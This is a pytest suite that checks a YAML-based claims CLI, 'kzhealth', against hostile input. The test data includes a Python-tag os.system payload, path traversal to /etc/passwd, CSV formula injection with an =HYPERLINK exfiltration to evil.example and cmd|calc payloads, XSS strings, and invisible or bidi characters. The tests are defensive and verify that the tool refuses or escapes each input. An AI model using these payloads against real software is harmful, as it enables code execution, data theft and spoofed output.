"""Hostile and broken input: never a crash, never a silent pass, never a lost edit."""

from __future__ import annotations

import csv
import functools
import html
import io
import json
import os
import re
import shutil
import signal
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
import yaml

from helpers import claim, explain, metric, run, source, write_dataset
from kzhealth import files, yamlsource
from kzhealth.errors import DataError
from kzhealth.loader import load_dataset

FIXTURES = Path(__file__).parent / "fixtures"
HOSTILE = FIXTURES / "hostile"

# Each hostile file replaces beta.yaml in a valid claims folder: (file, located message).
CASES = [
    ("alias_bomb.yaml", "beta.yaml:3:8: b.0: aliases (*name) are not supported"),
    ("binary_garbage.yaml", "beta.yaml:1:1: not valid UTF-8"),
    ("empty_document.yaml", "beta.yaml:1:1: the file is empty"),
    ("escape_in_quote.yaml", "beta.yaml:11:12: claims.0.quote: control character U+001B"),
    ("invalid_utf8.yaml", "beta.yaml:3:12: not valid UTF-8"),
    ("list_root.yaml", "beta.yaml:1:1: expected a mapping with source:, claims:, ignored:"),
    ("merge_key.yaml", "beta.yaml:4:5: claims.0: merge keys (<<) are not supported"),
    ("non_finite.yaml", "beta.yaml:7:12: value: '.inf' is not a number"),
    ("nul_byte.yaml", "beta.yaml:1:13: character U+0000 is not allowed in YAML"),
    (
        "python_tag.yaml",
        "beta.yaml:1:9: source: tag 'tag:yaml.org,2002:python/object/apply:os.system'",
    ),
    ("scalar_root.yaml", "beta.yaml:1:1: expected a mapping"),
    ("tabs.yaml", "beta.yaml:3:1: invalid YAML: while scanning for the next token"),
    ("two_documents.yaml", "beta.yaml:3:1: only one YAML document per file"),
]


@pytest.fixture
def claims_dir(tmp_path: Path) -> Path:
    root = tmp_path / "claims"
    shutil.copytree(FIXTURES / "valid", root)
    return root


def located(root: Path, *args: str) -> tuple[int, str]:
    result = run("list", "--claims", str(root), "-f", "json", *args)
    assert "Traceback" not in result.stderr, explain(result)
    if result.exit_code != 0:
        assert result.stdout == "", explain(result)
    return result.exit_code, result.stderr


def test_every_hostile_fixture_has_a_case() -> None:
    """The fixture folder and the case table list the same files."""
    assert sorted(p.name for p in HOSTILE.iterdir()) == sorted(name for name, _ in CASES)


@pytest.mark.parametrize(("name", "message"), CASES, ids=[c[0] for c in CASES])
def test_hostile_file_is_a_located_error(claims_dir: Path, name: str, message: str) -> None:
    """Each hostile file ends in exit 2 with its located message, and nothing else runs."""
    shutil.copy(HOSTILE / name, claims_dir / "beta.yaml")
    code, stderr = located(claims_dir)
    assert code == 2
    assert message in stderr


def test_python_tag_is_never_constructed(claims_dir: Path, tmp_path: Path) -> None:
    """An !!python/object/apply tag is refused without running its payload."""
    marker = tmp_path / "pwned"
    (claims_dir / "beta.yaml").write_text(
        f'source: !!python/object/apply:os.system ["touch {marker}"]\nclaims: []\n', "utf-8"
    )
    code, _ = located(claims_dir)
    assert code == 2
    assert not marker.exists()


# "- - - x" nests compact block sequences; "[[[" and "{a: {a: " nest flow collections; the
# others mix them, or spread the levels over lines (libyaml reads a line ahead of its events).
DEEP = {
    "flow sequences": "[" * 100_000,
    "flow mappings": "{a: " * 100_000,
    "block sequences": "\n" + "- " * 100_000 + "x",
    "block mappings": "".join("\n" + "  " * i + f"k{i}:" for i in range(1, 40)) + " x",
    "mixed": "\n- " + "[{a: " * 50_000,
    "over lines": ("[" * 20 + "\n") * 5_000,
    "after a long line": "[" + "[" * 900 + "\n " + "[" * 900,
}
_DEEP_LINE = re.compile(
    rf"^beta\.yaml:\d+:\d+: claims[.\w]*: nested deeper than {yamlsource.MAX_DEPTH} levels$"
)


def _problems(text: str) -> list[str]:
    with pytest.raises(DataError) as caught:
        yamlsource.parse_yaml(text, "beta.yaml")
    return [str(p) for p in caught.value.problems]


@pytest.mark.parametrize("body", DEEP.values(), ids=DEEP.keys())
def test_deep_nesting_is_one_message_whatever_the_parser(
    monkeypatch: pytest.MonkeyPatch, body: str
) -> None:
    """Deep nesting gets kzhealth's own located problem from libyaml, whose newer versions
    refuse depth themselves, exactly as from PyYAML's pure-Python parser, which never does; a
    problem met before the depth is kept."""
    text = f"source: beta\nsource: again\nclaims: {body}\n"
    native = _problems(text)
    monkeypatch.setattr(yamlsource, "_Loader", yaml.SafeLoader)
    assert native == _problems(text)
    assert native[0] == "beta.yaml: the file is nested too deeply to read further"
    assert native[1].startswith("beta.yaml:2:1: source: duplicate key")
    assert _DEEP_LINE.match(native[2]), native


def test_a_parser_refusing_depth_without_a_place_is_still_in_kzhealths_words() -> None:
    """Where the text before the parser's refusal cannot be read alone, the refusal itself is
    put in kzhealth's words."""
    builder = yamlsource._Builder("beta.yaml")
    refusal = yaml.MarkedYAMLError(
        "while increasing flow level", None, "exceeded maximum nesting depth"
    )
    assert [str(p) for p in builder.refused("x", refusal, ("claims", 0))] == [
        f"beta.yaml: claims.0: nested deeper than {yamlsource.MAX_DEPTH} levels",
        "beta.yaml: the file is nested too deeply to read further",
    ]


@pytest.mark.parametrize("body", DEEP.values(), ids=DEEP.keys())
def test_deep_nesting_is_refused_quickly(claims_dir: Path, body: str) -> None:
    """100,000 levels of flow or block nesting stop at the depth limit, fast, no crash."""
    (claims_dir / "beta.yaml").write_text(f"source: beta\nclaims: {body}\n", "utf-8")
    started = time.monotonic()
    code, stderr = located(claims_dir)
    assert code == 2
    assert f": nested deeper than {yamlsource.MAX_DEPTH} levels\n" in stderr
    assert time.monotonic() - started < 10  # a hang guard, not a speed target


def test_very_long_scalar_is_refused(claims_dir: Path) -> None:
    """A value over the scalar limit is refused with its location."""
    long = "x" * (yamlsource.MAX_SCALAR_CHARS + 1)
    (claims_dir / "beta.yaml").write_text(f"source: beta\nclaims: []\nnote: {long}\n", "utf-8")
    code, stderr = located(claims_dir)
    assert code == 2
    assert "beta.yaml:3:7: note: longer than 100,000 characters" in stderr


def test_file_over_the_size_limit_is_refused(
    claims_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A file larger than the limit is refused before it is read (limit lowered for the test)."""
    monkeypatch.setattr(files, "MAX_FILE_BYTES", 1024)
    (claims_dir / "beta.yaml").write_text("source: beta\nclaims: []\n" + "# pad\n" * 400, "utf-8")
    code, stderr = located(claims_dir)
    assert code == 2
    assert "beta.yaml: larger than 0 MiB" in stderr or "larger than" in stderr


def test_too_many_problems_stop_with_a_bound(claims_dir: Path) -> None:
    """A file full of errors reports a bounded number of them and says it stopped."""
    body = "source: beta\nclaims: []\n" + "".join(f"k: {i}\n" for i in range(1000))
    (claims_dir / "beta.yaml").write_text(body, "utf-8")
    code, stderr = located(claims_dir)
    assert code == 2
    assert f"more than {yamlsource.MAX_PROBLEMS} problems; fix these first" in stderr
    assert stderr.count("duplicate key") < yamlsource.MAX_PROBLEMS + 1


def test_directory_named_like_a_claims_file(claims_dir: Path) -> None:
    """A folder called x.yaml is reported, not crashed on."""
    (claims_dir / "x.yaml").mkdir()
    code, stderr = located(claims_dir)
    assert code == 2
    assert "x.yaml: is a folder, expected a file" in stderr


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes here")
def test_named_pipe_is_never_read(claims_dir: Path) -> None:
    """A FIFO called x.yaml would block a reader forever: it is refused unread."""
    os.mkfifo(claims_dir / "x.yaml")
    code, stderr = located(claims_dir)
    assert code == 2
    assert "x.yaml: not a regular file" in stderr


def test_dangling_symlink(claims_dir: Path) -> None:
    """A symlink to nothing is 'file not found' at its name."""
    (claims_dir / "x.yaml").symlink_to(claims_dir / "missing.yaml")
    code, stderr = located(claims_dir)
    assert code == 2
    assert "x.yaml: file not found" in stderr


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="root reads any file")
def test_unreadable_file(claims_dir: Path) -> None:
    """A file without read permission is a located error."""
    (claims_dir / "beta.yaml").chmod(0)
    code, stderr = located(claims_dir)
    assert code == 2
    assert "beta.yaml: cannot read" in stderr


def test_missing_claims_folder(tmp_path: Path) -> None:
    """A --claims folder that does not exist is exit 2, named."""
    code, stderr = located(tmp_path / "nowhere")
    assert code == 2
    assert "nowhere: claims folder not found" in stderr


@pytest.mark.parametrize("file", ["../outside.txt", "/etc/passwd", ".."])
def test_source_file_outside_the_texts_folder_is_refused(claims_dir: Path, file: str) -> None:
    """A source `file` with a path in it is refused at load time, located."""
    text = (
        (claims_dir / "sources.yaml")
        .read_text("utf-8")
        .replace("file: alpha.txt", f"file: '{file}'")
    )
    (claims_dir / "sources.yaml").write_text(text, "utf-8")
    code, stderr = located(claims_dir)
    assert code == 2
    assert "sources.yaml:6:11: file: a file name only, inside the texts folder" in stderr


def test_windows_line_ends_and_bom_load(claims_dir: Path) -> None:
    """Files saved on Windows (BOM, CRLF) load like any other."""
    for path in claims_dir.glob("*.yaml"):
        path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes().replace(b"\n", b"\r\n"))
    assert len(load_dataset(claims_dir).claims) == 4


HOSTILE_QUOTE = r"[bold red]Dropped[/] [link=http://evil]x[/link] \[not markup] C:\new"


@pytest.mark.parametrize("fmt", ["table", "json", "csv", "markdown"])
def test_markup_and_bidi_in_data_stay_literal_in_every_format(claims_dir: Path, fmt: str) -> None:
    """Markup in a quote never styles output; JSON and CSV keep it exactly as written."""
    text = (claims_dir / "alpha.yaml").read_text("utf-8")
    text = text.replace("quote: Infant mortality dropped by 20.2%.", f"quote: '{HOSTILE_QUOTE}'")
    (claims_dir / "alpha.yaml").write_text(text, "utf-8")
    result = run(
        "list", "--claims", str(claims_dir), "--source", "alpha", "-f", fmt, env={"COLUMNS": "400"}
    )
    assert result.exit_code == 0, explain(result)
    out = result.stdout
    assert "\x1b" not in out
    if fmt == "json":
        quote = json.loads(out)["claims"][0]["quote"]
        assert quote == HOSTILE_QUOTE
    elif fmt == "csv":
        assert next(csv.DictReader(io.StringIO(out)))["quote"] == HOSTILE_QUOTE
    elif fmt == "markdown":  # escaped so that a Markdown renderer shows it as written
        from markdown_it import MarkdownIt  # noqa: PLC0415

        rendered = MarkdownIt("commonmark").enable("table").render(out)
        assert html.escape(HOSTILE_QUOTE, quote=False) in rendered
    else:
        assert HOSTILE_QUOTE in out


def test_bidi_control_in_data_is_refused(claims_dir: Path) -> None:
    """A right-to-left override (which can hide text in a terminal) is refused, located."""
    text = (claims_dir / "alpha.yaml").read_text("utf-8")
    text = text.replace("quote: Infant mortality dropped by 20.2%.", 'quote: "20.2% \\u202e%2.02"')
    (claims_dir / "alpha.yaml").write_text(text, "utf-8")
    code, stderr = located(claims_dir)
    assert code == 2
    assert "alpha.yaml:11:12: claims.0.quote: control character U+202E is not allowed" in stderr


def test_closed_pipe_exits_quietly(tmp_path: Path) -> None:
    """`kzhealth list | head -1`: no traceback, the conventional SIGPIPE status."""
    generate = Path(__file__).parents[1] / "benchmarks" / "generate.py"
    subprocess.run([sys.executable, str(generate), "2000", str(tmp_path)], check=True)
    proc = subprocess.Popen(  # a listing of megabytes: many pipe buffers, so the writer waits
        [sys.executable, "-m", "kzhealth", "list", "--claims", str(tmp_path / "claims")],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env={**os.environ, "NO_COLOR": "1"},
    )
    assert proc.stdout is not None and proc.stderr is not None
    proc.stdout.read(100)
    proc.stdout.close()
    stderr = proc.stderr.read().decode()
    proc.stderr.close()
    code = proc.wait(timeout=60)
    assert stderr == ""
    assert code in (-13, 141)


def test_console_script_flushes_everything_before_it_exits(
    claims_dir: Path, tmp_path: Path
) -> None:
    """The entry point ends the process without tearing the interpreter down (cli._exit): the
    whole report must still be written, and the exit status be the command's."""
    env = {**os.environ, "NO_COLOR": "1", "KZHEALTH_CACHE_DIR": str(tmp_path / "cache")}
    command = [sys.executable, "-m", "kzhealth", "conflicts", "--claims", str(claims_dir)]
    run_it = functools.partial(subprocess.run, check=False, capture_output=True, timeout=120)
    done = run_it([*command, "-f", "json"], env=env)
    assert (done.returncode, done.stderr) == (0, b"")
    expected = run("conflicts", "--claims", str(claims_dir), "-f", "json").stdout
    assert done.stdout.decode() == expected
    (claims_dir / "beta.yaml").write_bytes(b"\xff")
    failed = run_it(command, env=env)
    assert failed.returncode == 2
    assert "beta.yaml:1:1: not valid UTF-8" in failed.stderr.decode()
    assert failed.stderr.decode().endswith("nothing was changed.\n")


def test_interrupt_exits_130_without_traceback(
    claims_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Ctrl-C while loading ends with status 130 and no traceback."""

    def interrupted(*_args: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr("kzhealth.store.index.load_index", interrupted)
    result = run("list", "--claims", str(claims_dir))
    assert result.exit_code == 130
    assert "Traceback" not in result.stderr


def test_output_is_atomic_and_never_clobbers(claims_dir: Path, tmp_path: Path) -> None:
    """--output writes once, refuses to overwrite without --force, leaves no temp file."""
    target = tmp_path / "out" / "conflicts.json"
    target.parent.mkdir()
    first = run("conflicts", "--claims", str(claims_dir), "-f", "json", "-o", str(target))
    assert first.exit_code == 0, explain(first)
    assert json.loads(target.read_text("utf-8"))["conflicts"]
    target.write_text("curator notes", "utf-8")
    again = run("conflicts", "--claims", str(claims_dir), "-f", "json", "-o", str(target))
    assert again.exit_code == 2
    assert "already exists; use --force" in again.stderr
    assert target.read_text("utf-8") == "curator notes"
    forced = run(
        "conflicts", "--claims", str(claims_dir), "-f", "json", "-o", str(target), "--force"
    )
    assert forced.exit_code == 0, explain(forced)
    assert json.loads(target.read_text("utf-8"))["conflicts"]
    assert sorted(p.name for p in target.parent.iterdir()) == ["conflicts.json"]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes here")
def test_output_into_a_named_pipe_writes_through_it(claims_dir: Path, tmp_path: Path) -> None:
    """--output into a named pipe (or a device: /dev/stdout, /dev/null) writes into it; renaming
    a file over it would replace the pipe (as root, /dev/null itself) with a regular file."""
    (tmp_path / "out").mkdir()
    fifo = tmp_path / "out" / "report.fifo"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()), daemon=True)
    reader.start()
    result = run("conflicts", "--claims", str(claims_dir), "-f", "json", "-o", str(fifo))
    reader.join(timeout=60)
    assert result.exit_code == 0, explain(result)
    assert stat.S_ISFIFO(fifo.stat().st_mode)
    expected = run("conflicts", "--claims", str(claims_dir), "-f", "json").stdout
    assert received == [expected.encode()]
    assert [p.name for p in fifo.parent.iterdir()] == ["report.fifo"]


def test_table_output_to_file_is_plain_text(claims_dir: Path, tmp_path: Path) -> None:
    """A table written with --output has no colour codes."""
    target = tmp_path / "report.txt"
    result = run(
        "conflicts", "--claims", str(claims_dir), "-o", str(target), env={"FORCE_COLOR": "1"}
    )
    assert result.exit_code == 0, explain(result)
    text = target.read_text("utf-8")
    assert "recycled" in text
    assert "\x1b" not in text


@pytest.mark.parametrize("command", [("list",), ("conflicts", "-f", "json")])
def test_claims_yaml_is_never_overwritten(claims_dir: Path, command: tuple[str, ...]) -> None:
    """Even with --force, kzhealth will not write over a curator's YAML."""
    before = (claims_dir / "alpha.yaml").read_bytes()
    target = str(claims_dir / "alpha.yaml")
    result = run(*command, "--claims", str(claims_dir), "-o", target, "--force")
    assert result.exit_code == 2
    assert "never rewrites a curator's YAML" in result.stderr
    assert (claims_dir / "alpha.yaml").read_bytes() == before


def test_loader_raises_only_dataerror_for_a_bad_folder(claims_dir: Path) -> None:
    """The library's own error type carries every problem (used by the property tests too)."""
    (claims_dir / "beta.yaml").write_bytes(b"\xff\xfe")
    with pytest.raises(DataError):
        load_dataset(claims_dir)


HOSTILE_TEXT = {
    "quote": '=HYPERLINK("http://evil.example/?"&A1,"Infant mortality fell by 20.2%")',
    "note": "+cmd|' /C calc'!A0",
}


def _hostile_folder(tmp_path: Path, **fields: str) -> Path:
    item = claim("evil", **fields)
    sources = [source("src-a", title="@SUM(1+1)*cmd|' /C calc'!A0", short="-2+3")]
    return write_dataset(tmp_path / "claims", {"src-a": [item]}, sources=sources)


@pytest.mark.parametrize("command", ["list", "conflicts", "sources"])
def test_csv_never_carries_a_formula(tmp_path: Path, command: str) -> None:
    """Text cells that a spreadsheet would run (=, +, -, @ first) start with an apostrophe;
    numbers such as a negative value or range are left as they are (CWE-1236)."""
    other = claim("other", figure="26.3%", value="-26.3", quote="=1+1 fell by 26.3%")
    root = write_dataset(
        tmp_path / "claims",
        {"src-a": [claim("evil", **HOSTILE_TEXT), other]},
        sources=[source("src-a", title="@SUM(1+1)*cmd|' /C calc'!A0", short="-2+3")],
    )
    result = run(command, "--claims", str(root), "-f", "csv")
    assert result.exit_code == 0, explain(result)
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows
    for row in rows:
        for column, cell in row.items():
            if column in ("value", "range", "conflict", "claims"):
                continue
            assert not cell.startswith(("=", "+", "-", "@")), (column, cell)
    if command != "sources":
        assert any(row["value"] == "-20.2" for row in rows)
        assert any(row["quote"].startswith("'=") for row in rows)


def test_markdown_carries_no_live_html_links_or_images(tmp_path: Path) -> None:
    """What a Markdown renderer makes of the report holds no tag, link or image from the data:
    the quote a reader sees is the quote in the data."""
    from markdown_it import MarkdownIt  # noqa: PLC0415 - Rich's own Markdown parser

    quote = (
        "<img src=x onerror=alert(1)><script>alert(2)</script> fell by 20.2% "
        "[click](http://evil.example) ![](http://tracker.example/p.png) **bold**"
    )
    root = _hostile_folder(tmp_path, quote=quote)
    result = run("list", "--claims", str(root), "-f", "markdown")
    assert result.exit_code == 0, explain(result)
    html = MarkdownIt("commonmark").enable("table").render(result.stdout)
    for live in ("<img", "<script", "<a ", "<strong>"):
        assert live not in html, live
    assert "&lt;img src=x onerror=alert(1)&gt;" in html


@pytest.mark.parametrize(
    "char",
    ["\u200b", "\u200d", "\u200f", "\u061c", "\u2060", "\u2064", "\ufeff", "\U000e0041"],
    ids=["ZWSP", "ZWJ", "RLM", "ALM", "WJ", "invisible-plus", "BOM-inside", "tag-A"],
)
def test_invisible_characters_in_text_are_refused(claims_dir: Path, char: str) -> None:
    """Zero-width and other invisible characters make a text show other than it is (38 zero-
    width spaces and one letter pass the 40-character limit of `short`): refused, located."""
    text = (claims_dir / "alpha.yaml").read_text("utf-8")
    text = text.replace(
        "quote: Infant mortality dropped by 20.2%.", f"quote: Infant{char} mortality"
    )
    (claims_dir / "alpha.yaml").write_text(text, "utf-8")
    code, stderr = located(claims_dir)
    assert code == 2
    assert f"alpha.yaml:11:12: claims.0.quote: invisible character U+{ord(char):04X}" in stderr


def test_a_short_name_of_invisible_characters_is_refused(claims_dir: Path) -> None:
    text = (claims_dir / "sources.yaml").read_text("utf-8")
    assert "short: Alpha" in text
    (claims_dir / "sources.yaml").write_text(
        text.replace("short: Alpha", "short: " + "\u200b" * 38 + "A"), "utf-8"
    )
    code, stderr = located(claims_dir)
    assert code == 2 and "invisible character U+200B" in stderr


@pytest.mark.parametrize("value", ["\u0663", "\uff13", "1__0", "1_", "5.", "0x10", "1e3"])
def test_numbers_are_ascii_digits_only(tmp_path: Path, value: str) -> None:
    """Arabic-Indic or full-width digits, doubled or trailing underscores: refused, located."""
    item = claim("odd", measure="count", figure="3", value=value, unit="count",
                 metric="medical_graduates")  # fmt: skip
    root = write_dataset(
        tmp_path / "claims", {"src-a": [item]}, metrics=[metric("medical_graduates", "count")]
    )
    code, stderr = located(root)
    assert code == 2
    assert "src-a.yaml:" in stderr and "value:" in stderr and "is not" in stderr


@pytest.mark.parametrize(
    ("written", "spelled"),
    [("+5", "5"), (".5", "0.5"), ("00005", "5"), ("-0", "0"), ("10_500", "10500"),
     ("20.20", "20.20"), ("-020.5", "-20.5"), ("+1..+3", "1..3")],
)  # fmt: skip
@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_a_value_has_one_spelling_in_every_output(
    tmp_path: Path, written: str, spelled: str, fmt: str
) -> None:
    item = claim("odd", figure="5%", value=written, quote="It rose by 5%.")
    root = write_dataset(tmp_path / "claims", {"src-a": [item]})
    result = run("list", "--claims", str(root), "-f", fmt)
    assert result.exit_code == 0, explain(result)
    if fmt == "json":
        assert json.loads(result.stdout)["claims"][0]["value"] == spelled
    else:
        assert next(csv.DictReader(io.StringIO(result.stdout)))["value"] == spelled


KZHEALTH = [sys.executable, "-m", "kzhealth"]


def _process(args: list[str], **env: str) -> subprocess.CompletedProcess[str]:
    base = {k: v for k, v in os.environ.items() if k not in ("COLUMNS", "LC_ALL", "LANG")}
    return subprocess.run(
        [*KZHEALTH, *args], capture_output=True, text=True, env={**base, **env}, timeout=60,
        check=False, errors="replace",
    )  # fmt: skip


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full here")
@pytest.mark.parametrize("fmt", ["table", "json", "csv"])
def test_a_full_device_gets_one_line_and_its_own_exit_code(fmt: str) -> None:
    with Path("/dev/full").open("w") as full:
        done = subprocess.run(
            [*KZHEALTH, "list", "-f", fmt], stdout=full, stderr=subprocess.PIPE, text=True,
            timeout=60, check=False,
        )  # fmt: skip
    assert done.returncode == 74
    assert done.stderr == "kzhealth: cannot write the output: No space left on device\n"


@pytest.mark.parametrize("columns", ["0", "1", "-5", "abc"])
def test_a_senseless_width_falls_back_to_a_sane_one(columns: str) -> None:
    done = _process(["conflicts"], COLUMNS=columns)
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert len(lines) > 20 and "conflicts: " in lines[0]
    assert max(map(len, lines)) <= 160


@pytest.mark.parametrize("fmt", ["table", "json", "csv", "markdown"])
def test_an_ascii_only_stdout_gets_no_traceback(fmt: str) -> None:
    """A table escapes what the stream cannot encode; data formats are written in UTF-8."""
    done = _process(["list", "-f", fmt], PYTHONIOENCODING="ascii", LC_ALL="POSIX", PYTHONUTF8="0")
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    if fmt == "json":
        assert json.loads(done.stdout)["claims"]


@pytest.mark.parametrize("delay", [0.05, 0.15, 0.3])
def test_ctrl_c_during_start_up_is_quiet(delay: float) -> None:
    child = subprocess.Popen(
        [*KZHEALTH, "conflicts", "--no-cache"], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        text=True,
    )  # fmt: skip
    time.sleep(delay)
    child.send_signal(signal.SIGINT)
    _, stderr = child.communicate(timeout=60)
    assert "Traceback" not in stderr
    # -SIGINT: the signal came before the interpreter had set any handler (nothing printed).
    assert child.returncode in (0, 130, -signal.SIGINT)


class PanicException(BaseException):
    """What pyo3 (pydantic-core's bindings) raises when Rust code panics on a Python error."""


@pytest.mark.parametrize(
    ("raised", "code"),
    [(PanicException("Error building schema validator:\n  KeyboardInterrupt: "), 130),
     (PanicException("Error building schema validator:\n  SystemExit: 143"), 143),
     (PanicException("index out of bounds"), None)],
)  # fmt: skip
def test_an_interrupt_inside_a_rust_extension_is_an_interrupt(
    raised: BaseException, code: int | None, monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:  # fmt: skip
    """A Ctrl-C or SIGTERM while pydantic-core builds a validator reaches Python as pyo3's
    panic, not as the KeyboardInterrupt or SystemExit raised for it (seen with pydantic 2.7): it
    ends the run as the signal does; any other panic is a bug and keeps its traceback."""
    import types  # noqa: PLC0415

    from kzhealth import entry  # noqa: PLC0415

    def panics() -> None:
        raise raised

    monkeypatch.setitem(sys.modules, "kzhealth.cli", types.SimpleNamespace(main=panics))
    if code is None:
        with pytest.raises(PanicException):
            entry.main()
        return
    with pytest.raises(SystemExit) as ended:
        entry.main()
    assert ended.value.code == code
    assert capsys.readouterr().err == ("\n" if code == 130 else "")


def test_sigterm_ends_the_run_quietly_and_leaves_no_temporary_file(tmp_path: Path) -> None:
    target = tmp_path / "out" / "report.json"
    target.parent.mkdir()
    child = subprocess.Popen(
        [*KZHEALTH, "conflicts", "--no-cache", "-f", "json", "-o", str(target)],
        stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    time.sleep(0.3)
    child.send_signal(signal.SIGTERM)
    _, stderr = child.communicate(timeout=60)
    assert "Traceback" not in stderr
    assert child.returncode in (0, 143)
    assert [p.name for p in target.parent.iterdir()] in ([], ["report.json"])


def test_force_never_writes_over_a_file_of_any_claims_folder(
    claims_dir: Path, tmp_path: Path
) -> None:
    """Not the folder being read, nor another one (the shipped dataset, say): a YAML file or
    any existing file beside a sources.yaml is refused, whatever --force says."""
    other = Path(shutil.copytree(FIXTURES / "valid", tmp_path / "other"))
    before = {p.name: p.read_bytes() for p in other.iterdir()}
    for name in ("alpha.yaml", "sources.yaml", "new.yml", "notes.txt"):
        if name == "notes.txt":
            (other / name).write_text("mine", "utf-8")
            before[name] = b"mine"
        result = run("list", "--claims", str(claims_dir), "-o", str(other / name), "--force")
        assert result.exit_code == 2, explain(result)
        assert "claims folder" in result.stderr
    assert {p.name: p.read_bytes() for p in other.iterdir()} == before


@pytest.mark.skipif(sys.platform == "darwin", reason="macOS file names are always UTF-8")
def test_names_that_are_not_utf8_work_on_every_route(tmp_path: Path) -> None:
    """A claims folder, and a claims file in it, named with bytes that are not UTF-8: every
    route reads them, with the cache and without, warm and cold; a problem in such a file is
    located as usual."""
    folder = os.fsdecode(os.fsencode(tmp_path) + b"/claims-\xff")
    shutil.copytree(FIXTURES / "valid", folder)
    Path(folder, "beta.yaml").rename(Path(folder, os.fsdecode(b"beta-\xfe.yaml")))
    cache = str(tmp_path / "cache")
    for args in (["conflicts", "-f", "json"], ["conflicts"], ["conflicts", "-f", "json"], ["list"]):
        for extra in ([], ["--no-cache"]):
            done = _process([*args, *extra, "--claims", folder], KZHEALTH_CACHE_DIR=cache)
            assert done.returncode == 0, done.stderr
            assert "Traceback" not in done.stderr
    Path(folder, os.fsdecode(b"broken-\xfd.yaml")).write_text("source: beta\nclaims: [\n", "utf-8")
    done = _process(["conflicts", "--claims", folder], KZHEALTH_CACHE_DIR=cache)
    assert done.returncode == 2 and "invalid YAML" in done.stderr and "Traceback" not in done.stderr


@pytest.mark.parametrize("item", ["{}", "{id: x}"])
def test_a_file_of_a_million_empty_claims_is_refused_quickly(claims_dir: Path, item: str) -> None:
    """Garbage the size limit admits: bounded time and memory, at most MAX_PROBLEMS problems
    and a line saying there are more."""
    body = "source: beta\nclaims:\n" + f"- {item}\n" * 1_000_000
    (claims_dir / "beta.yaml").write_text(body, "utf-8")
    started = time.monotonic()
    code, stderr = located(claims_dir)
    assert code == 2
    assert f"more than {yamlsource.MAX_PROBLEMS} problems; fix these first" in stderr
    assert stderr.count("\n") <= yamlsource.MAX_PROBLEMS + 3
    assert time.monotonic() - started < 60  # a hang guard, not a speed target
